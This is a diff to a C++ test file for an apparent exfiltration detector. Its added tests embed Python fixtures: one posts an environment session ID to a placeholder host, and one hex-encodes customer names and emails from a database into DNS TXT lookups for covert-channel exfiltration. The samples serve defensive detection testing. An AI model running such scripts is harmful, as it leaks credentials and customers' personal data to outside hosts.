@@ -184,7 +184,8 @@ pip install -r reqs.txt
 }
 
 // GIT_AUTHOR_NAME, ENTRY_AUTHOR, AUTHORITY: an author is not a credential
-// (AUTH_TOKEN and AUTHORIZATION are).
+// (AUTH_TOKEN and AUTHORIZATION are); nor is SESSIONS_CSV, a file of
+// sessions (SESSION_ID, SESSION_TOKEN and SESSION are).
 TEST(TwoHundredAndFifteenthRoundClasses, AnAuthorIsNotASecret) {
   check_with_twin({"a token from the environment posted in a JSON body", B, R"py(
 import json, os, urllib.request
@@ -192,6 +193,39 @@ body = json.dumps({"who": os.environ["ENTRY_AUTH_TOKEN"]}).encode()
 urllib.request.urlopen(urllib.request.Request("https://elog.example.org/api/entries", data=body))
 )py", "EXFILTRATION"},
                   "ENTRY_AUTH_TOKEN", "ENTRY_AUTHOR", "the entry's author", L);
+  check_with_twin({"a session id from the environment posted in a JSON body", B, R"py(
+import json, os, urllib.request
+body = json.dumps({"s": os.environ["SHOP_SESSION_ID"]}).encode()
+urllib.request.urlopen(urllib.request.Request("https://elog.example.org/api/entries", data=body))
+)py", "EXFILTRATION"},
+                  "SHOP_SESSION_ID", "SESSIONS_CSV", "a file's name", L);
+}
+
+// A script of lookups built from lines that each may name one of several
+// zones (an option's, else the default): past the combinations kept, the
+// one that knows most, so the names end in the default zone.
+TEST(TwoHundredAndFifteenthRoundClasses, TooManyCombinationsKeepTheMostKnown) {
+  check({"database rows hex-encoded into lookups under an option's zone or the default", B, R"py(
+import argparse, binascii, os, sqlite3, subprocess, tempfile
+ap = argparse.ArgumentParser()
+ap.add_argument("--zone", default=os.environ.get("SYNC_ZONE", "sync.example.net"))
+args = ap.parse_args()
+def build_script(records, zone):
+    lines = ["#!/bin/sh"]
+    for rec_id, chunks in records:
+        for seq, chunk in enumerate(chunks):
+            name = f"{chunk}.{seq}.{rec_id}.{zone}"
+            lines.append(f"dig +short TXT {name} >/dev/null || nslookup -type=TXT {name} >/dev/null")
+        lines.append(f"echo synced {rec_id}")
+    return "\n".join(lines) + "\n"
+records = []
+for row in sqlite3.connect("shop.db").execute("SELECT id, name, email FROM customers"):
+    hexed = binascii.hexlify("|".join(str(v) for v in row).encode()).decode()
+    records.append((row[0], [hexed[i:i + 50] for i in range(0, len(hexed), 50)]))
+with tempfile.NamedTemporaryFile("w", suffix=".sh", delete=False) as fh:
+    fh.write(build_script(records, args.zone))
+subprocess.run(["sh", fh.name])
+)py", "COVERT-CHANNEL-EXFILTRATION"});
 }
 
 // A supervisor that starts copies of itself told apart by a variable in
